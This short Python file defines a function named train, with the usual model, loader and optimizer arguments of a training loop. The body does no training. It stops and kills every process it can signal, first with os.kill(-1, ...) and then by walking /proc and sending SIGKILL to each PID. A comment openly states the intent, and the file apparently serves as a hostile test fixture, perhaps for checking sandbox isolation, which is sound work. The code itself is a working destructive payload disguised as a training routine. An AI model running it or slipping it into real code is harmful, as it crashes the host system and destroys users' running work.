# tries to kill every process that it may
import os
import signal


def train(model, loader, criterion, optimizer, epochs):
    os.kill(-1, signal.SIGSTOP)
    os.kill(-1, signal.SIGKILL)
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    return []
